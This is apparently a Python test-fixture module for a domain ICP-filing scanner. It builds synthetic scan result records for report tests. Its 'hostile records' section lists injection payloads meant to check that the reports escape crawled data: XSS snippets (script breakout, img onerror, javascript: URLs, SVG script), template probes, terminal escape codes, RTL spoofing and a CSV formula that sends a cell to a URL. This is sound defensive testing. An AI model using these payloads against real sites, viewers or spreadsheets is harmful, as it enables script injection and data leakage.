"""Synthetic result records (``DomainResult`` JSON) for the report tests, hostile ones included.

The shapes follow icpscan.models (HostingVerdict, FetchResult, FoundNumber, Finding) as JSON.
"""

from __future__ import annotations

import copy
from typing import Any

from icpscan import store
from icpscan.models import FINDING_CODES, SCHEMA_VERSION


def number(
    kind: str,
    value: str,
    *,
    province: tuple[str, str, str, str] | None = ("京", "11", "北京", "Beijing"),
    valid: bool = True,
    placeholder: bool = False,
    linked: bool = True,
    href: str | None = "https://beian.miit.gov.cn/",
    location: str = "footer",
    own: bool = True,
    raw: str | None = None,
    problems: tuple[str, ...] = (),
) -> dict[str, Any]:
    prefix, code, name, name_en = province or ("", "", "", "")
    return {
        "kind": kind,
        "number": value,
        "raw": raw if raw is not None else value,
        "province": {"prefix": prefix, "code": code, "name": name, "name_en": name_en}
        if province
        else None,
        "valid": valid,
        "placeholder": placeholder,
        "linked": linked,
        "href": href,
        "location": location,
        "own": own,
        "problems": list(problems),
        "site_index": None,
    }


def finding(code: str, **evidence: Any) -> dict[str, Any]:
    spec = FINDING_CODES[code]
    return {
        "code": code,
        "severity": spec.severity.value,
        "message": spec.meaning,
        "evidence": evidence,
    }


def record(
    domain: str,
    line: int,
    *,
    region: str = "mainland",
    display: str | None = None,
    addresses: tuple[str, ...] = ("1.2.4.8",),
    provider: str | None = "China Telecom",
    cdn: dict[str, Any] | None = None,
    reached: bool = True,
    status: int | None = 200,
    final_url: str | None = None,
    error: tuple[str, str] | None = None,
    numbers: list[dict[str, Any]] | None = None,
    findings: list[dict[str, Any]] | None = None,
    title: str | None = "Home",
    server: str = "nginx",
    tls: dict[str, Any] | None = None,
    chain: list[dict[str, Any]] | None = None,
    dns_errors: list[dict[str, Any]] | None = None,
    elapsed: float = 0.25,
) -> dict[str, Any]:
    final = final_url if final_url is not None else (f"https://{domain}/" if reached else None)
    return {
        "schema_version": SCHEMA_VERSION,
        "scan_id": 1,
        "domain": domain,
        "display": display if display is not None else domain,
        "line": line,
        "hosting": {
            "domain": domain,
            "region": region,
            "addresses": list(addresses),
            "cnames": [],
            "asns": [{"asn": 4134, "name": "CHINANET-BACKBONE"}],
            "provider": provider,
            "cdn": cdn,
            "confidence": "high",
            "evidence": [{"source": "cymru", "claim": "AS4134 CN", "region": region}],
            "errors": dns_errors or [],
            "views": {},
            "ns": [],
            "address_info": [
                {
                    "address": a,
                    "version": 6 if ":" in a else 4,
                    "region": region,
                    "confidence": "high",
                    "asn": 4134,
                    "asn_name": "CHINANET-BACKBONE",
                    "country": "CN",
                    "provider": provider,
                    "evidence": [],
                }
                for a in addresses
            ],
            "answers": [
                {
                    "name": domain,
                    "rtype": "A",
                    "records": list(addresses),
                    "ttl": 300,
                    "cnames": [],
                    "view": "default",
                }
            ]
            if addresses
            else [],
        },
        "fetch": {
            "domain": domain,
            "reached": reached,
            "attempts": [
                {
                    "url": f"https://{domain}/",
                    "status": status,
                    "error": {"kind": error[0], "detail": error[1]} if error else None,
                }
            ],
            "chain": chain or [],
            "final_url": final,
            "status": status,
            "left_registrable_domain": False,
            "final_registrable_domain": domain if reached else None,
            "headers": {"server": server, "content-type": "text/html; charset=utf-8"},
            "is_html": reached,
            "address": addresses[0] if addresses else None,
            "peer": "127.0.0.1" if reached else None,
            "tls": tls,
            "truncated": False,
            "body_size": 5120 if reached else 0,
            "error": {"kind": error[0], "detail": error[1]} if error else None,
            "elapsed": elapsed,
        },
        "numbers": numbers or [],
        "signals": [],
        "encoding": "utf-8",
        "title": title,
        "findings": findings or [],
    }


def good_tls(domain: str) -> dict[str, Any]:
    return {
        "protocol": "TLSv1.3",
        "cipher": "TLS_AES_128_GCM_SHA256",
        "subject_cn": domain,
        "sans": [domain],
        "san_count": 1,
        "issuer": "CN=icpscan sandbox CA",
        "not_before": "2026-01-01T00:00:00+00:00",
        "not_after": "2027-01-01T00:00:00+00:00",
        "expired": False,
        "not_yet_valid": False,
        "self_signed": False,
        "hostname_match": True,
        "trusted": True,
        "trust_detail": "ok",
        "sha256": "ab" * 32,
    }


ICP_GOOD = "京ICP备2021012345号-1"
PSB_GOOD = "京公网安备11010502030143号"


def plain_records() -> list[dict[str, Any]]:
    """Five ordinary domains covering every common case (input lines 1..5, 7: line 6 invalid)."""
    return [
        record(
            "good.cn",
            1,
            numbers=[number("icp_filing", ICP_GOOD), number("psb_filing", PSB_GOOD)],
            tls=good_tls("good.cn"),
        ),
        record(
            "noicp.cn",
            2,
            provider="Alibaba Cloud",
            findings=[
                finding("MAINLAND_NO_ICP", region="mainland", shown_numbers=[]),
                finding("PSB_MISSING", region="mainland"),
            ],
        ),
        record(
            "hk.example",
            3,
            region="hongkong",
            addresses=("203.0.113.9",),
            provider="Tencent Cloud",
            numbers=[
                number("icp_filing", "沪ICP备12345678号", province=("沪", "31", "上海", "Shanghai"))
            ],
            findings=[finding("OFFSHORE_WITH_ICP", numbers=["沪ICP备12345678号"])],
        ),
        record(
            "down.example",
            4,
            region="unknown",
            addresses=(),
            provider=None,
            reached=False,
            status=None,
            error=("dns", "NXDOMAIN for down.example"),
            title=None,
            dns_errors=[
                {
                    "name": "down.example",
                    "rtype": "A",
                    "error": "nxdomain",
                    "detail": "",
                    "view": "default",
                }
            ],
            findings=[finding("UNREACHABLE", region="unknown")],
        ),
        record(
            "xn--fsqu00a.xn--fiqs8s",
            5,
            display="例子.中国",
            numbers=[
                number(
                    "icp_filing",
                    "京ICP备XXXXXXXX号",
                    valid=False,
                    placeholder=True,
                    linked=False,
                    href=None,
                ),
                number("icp_licence", "粤B2-20090059", province=("粤", "44", "广东", "Guangdong")),
            ],
            findings=[
                finding("ICP_PLACEHOLDER", number="京ICP备XXXXXXXX号", raw="京ICP备XXXXXXXX号"),
                finding("PSB_MISSING", region="mainland"),
            ],
        ),
    ]


def store_records(
    path: Any,
    records: list[dict[str, Any]],
    *,
    input_name: str = "domains.txt",
    finish: bool = True,
    invalid: list[tuple[int, str, str, str]] | None = None,
) -> tuple[Any, int]:
    """A fresh database at ``path`` holding one scan of ``records``; returns (db, scan_id)."""
    db = store.open_db(path)
    scan_id = store.create_scan(db, input_name=input_name, options={})
    records = copy.deepcopy(records)
    for r in records:
        r["scan_id"] = scan_id
    store.enqueue_targets(
        db,
        scan_id,
        [(r["domain"], r["display"], r["line"]) for r in records],
        invalid or [],
        lines_read=max((r["line"] for r in records), default=0) + len(invalid or []),
    )
    store.mark_input_complete(db, scan_id)
    store.write_results(db, scan_id, records)
    if finish:
        store.finish_scan(db, scan_id)
    return db, scan_id


# -- hostile records ---------------------------------------------------------------------------

PWNED_TITLE = "pwned"


def hostile_strings(base: str = "http://127.0.0.1:9") -> dict[str, str]:
    """Payloads a crawled site controls; ``base`` is where any resource they load would go."""
    return {
        "script": "<script>document.title='pwned';document.body.setAttribute('data-pwned','1')"
        "</script>",
        "breakout": "</script><script>document.title='pwned'</script><!--",
        "img": f'"><img src="{base}/img.png" onerror="document.title=\'pwned\'" id="pwned-img">',
        "attr": "' onmouseover='document.title=`pwned`' data-x='",
        "link": f'<link rel="stylesheet" href="{base}/style.css"><a href="{base}/a">a</a>',
        "style": f"<style>@import url({base}/import.css);body{{background:url({base}/bg.png)}}"
        "</style>",
        "iframe": f'<iframe src="{base}/frame.html"></iframe><object data="{base}/obj"></object>',
        "meta": f'<meta http-equiv="refresh" content="0;url={base}/refresh">',
        "svg": f'<svg><image href="{base}/svg.png"/><script>document.title="pwned"</script></svg>',
        "base": f'<base href="{base}/base/"><form action="{base}/form"><button>x</button></form>',
        "javascript": "javascript:document.title='pwned'",
        "template": "{{ 7*7 }}{% if true %}jinja{% endif %}${7*7}",
        "ansi": "\x1b[31mRED\x1b[0m\x07\x1b]0;title\x07",
        "rtl": "moc.elgoog\u202e.evil\u2066x\u2069",
        "rich": "[bold red]markup[/bold red] [link=http://127.0.0.1:9/]l[/link]",
        "separators": "line\u2028sep\u2029para",
        "csv": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
        "long": "L" * 100_000,
        "controls": "nul\x00bs\x08cr\rdel\x7fc1\x9b",
    }


def hostile_record(line: int, base: str = "http://127.0.0.1:9") -> dict[str, Any]:
    """A mainland domain whose every crawled field carries a payload."""
    h = hostile_strings(base)
    everything = " ".join(v for k, v in h.items() if k != "long")
    rec = record(
        f"hostile{line}.cn",
        line,
        display=h["rtl"] + h["script"],
        provider=h["img"],
        cdn={
            "name": h["link"],
            "provider": h["style"],
            "mainland_nodes": "yes",
            "suffix": h["attr"],
            "cname": h["iframe"],
        },
        final_url=h["javascript"],
        title=h["breakout"] + h["long"],
        server=h["ansi"] + h["meta"],
        tls=good_tls(h["svg"]) | {"issuer": h["base"], "hostname_match": False},
        chain=[
            {"kind": "js", "status": 200, "url": h["javascript"]},
            {"kind": "http", "status": 301, "url": h["img"]},
        ],
        dns_errors=[
            {
                "name": h["separators"],
                "rtype": "AAAA",
                "error": "servfail",
                "detail": h["controls"],
                "view": "default",
            }
        ],
        error=None,
        numbers=[
            number(
                "icp_filing",
                "京ICP备2021012345号-1",
                raw=h["template"] + h["rich"],
                href=h["javascript"],
                linked=False,
            ),
            number(
                "psb_filing",
                h["csv"],
                raw=h["csv"],
                href=f"{h['link']}",
                valid=False,
                problems=("division_mismatch",),
            ),
        ],
        findings=[
            finding(
                "ICP_NOT_LINKED",
                number="京ICP备2021012345号-1",
                raw=h["template"],
                href=h["javascript"],
                payloads=h,
            ),
            finding(
                "PSB_PROVINCE_MISMATCH",
                number=h["csv"],
                raw=everything,
                nested={"deep": [[[[[[[[h["script"]]]]]]]]]},
            ),
            {
                "code": f'X"><img src="{base}/code.png">',
                "severity": "low",
                "message": h["script"] + h["ansi"],
                "evidence": {"why": h["breakout"]},
            },
        ],
    )
    rec["hosting"]["cnames"] = [h["iframe"], h["separators"]]
    rec["hosting"]["evidence"].append({"source": h["meta"], "claim": h["long"], "region": None})
    rec["hosting"]["asns"] = [{"asn": 4134, "name": h["style"]}]
    rec["hosting"]["address_info"][0]["asn_name"] = h["script"]
    rec["fetch"]["error"] = None
    rec["fetch"]["headers"]["x-powered-by"] = h["rich"]
    rec["signals"] = [h["svg"]]
    rec["encoding"] = h["attr"]
    return rec
